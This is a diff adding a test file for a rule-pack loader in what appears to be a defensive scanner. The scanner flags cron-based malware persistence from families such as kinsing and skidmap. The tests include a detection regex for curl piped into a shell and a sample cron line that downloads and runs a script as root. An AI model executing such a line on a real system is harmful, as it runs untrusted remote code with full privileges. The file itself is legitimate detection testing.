@@ -1,0 +1,65 @@
+import { describe, expect, it } from 'vitest';
+import { parseRulePack } from '../../src/rules/loader.js';
+import { RuleSet } from '../../src/rules/ruleset.js';
+import { RuleError } from '../../src/rules/types.js';
+
+const ok = `
+rules:
+  - id: test.curl-pipe
+    category: persistence/cron
+    severity: high
+    message: "{path}:{line} pipes a download into a shell"
+    remediation: "sed -i '{line}d' {path:q}"
+    match:
+      content:
+        scopes: [cron]
+        regex: 'curl[^|]*\\|\\s*sh'
+`;
+
+describe('rule packs', () => {
+  it('loads every built-in pack, each family with a definition', async () => {
+    const rules = await RuleSet.load();
+    expect(rules.all().length).toBeGreaterThan(0);
+    const families = rules.allFamilies().map((f) => f.id).sort();
+    expect(families).toEqual(['aliyun-duns', 'cleanfda', 'kinsing', 'outlaw', 'skidmap']);
+    for (const r of rules.all()) if (r.family) expect(rules.family(r.family)).toBeDefined();
+  });
+
+  it('turns a rule into a finding with its templates filled and paths quoted', () => {
+    const rules = new RuleSet([parseRulePack(ok, 'ok.yaml')]);
+    const hits = rules.matchLines('cron', '/etc/cron.d/x y', 'ok\n* * * * * root curl -s http://a/b | sh\n');
+    expect(hits).toHaveLength(1);
+    expect(hits[0]!.line).toBe(2);
+    const f = rules.finding(hits[0]!.rule, { path: '/etc/cron.d/x y', line: 2, evidence: hits[0]!.text });
+    expect(f).toMatchObject({ rule: 'test.curl-pipe', severity: 'high', line: 2, category: 'persistence/cron' });
+    expect(f.message).toBe('/etc/cron.d/x y:2 pipes a download into a shell');
+    expect(f.remediation).toBe(`sed -i '2d' '/etc/cron.d/x y'`);
+  });
+
+  it.each([
+    ['an unknown severity', ok.replace('severity: high', 'severity: severe'), 5, /severity/],
+    ['a bad regex', ok.replace(`'curl[^|]*\\|\\s*sh'`, `'curl(('`), 11, /regex/],
+    ['an unknown scope', ok.replace('[cron]', '[crontab]'), 10, /unknown content scope "crontab"/],
+    ['an unknown field', ok.replace('category:', 'categroy:'), 4, /unknown field "categroy"/],
+    ['broken YAML', ok.replace('rules:', 'rules: [').replace('  - id', '  -- id'), undefined, /.+/],
+  ])('rejects %s naming the file and line', (_what, text, line, msg) => {
+    let err: unknown;
+    try {
+      parseRulePack(text, 'bad.yaml');
+    } catch (e) {
+      err = e;
+    }
+    expect(err).toBeInstanceOf(RuleError);
+    expect((err as RuleError).file).toBe('bad.yaml');
+    if (line !== undefined) expect((err as RuleError).line).toBe(line);
+    else expect((err as RuleError).line).toBeGreaterThan(0);
+    expect((err as Error).message).toMatch(msg);
+  });
+
+  it('rejects two rules with one id, and a family nobody defines', () => {
+    const pack = parseRulePack(ok, 'a.yaml');
+    expect(() => new RuleSet([pack, parseRulePack(ok, 'b.yaml')])).toThrow(/already defined at a.yaml:3/);
+    const orphan = parseRulePack(ok.replace('    category:', '    family: nobody\n    category:'), 'c.yaml');
+    expect(() => new RuleSet([orphan])).toThrow(/family "nobody"/);
+  });
+});
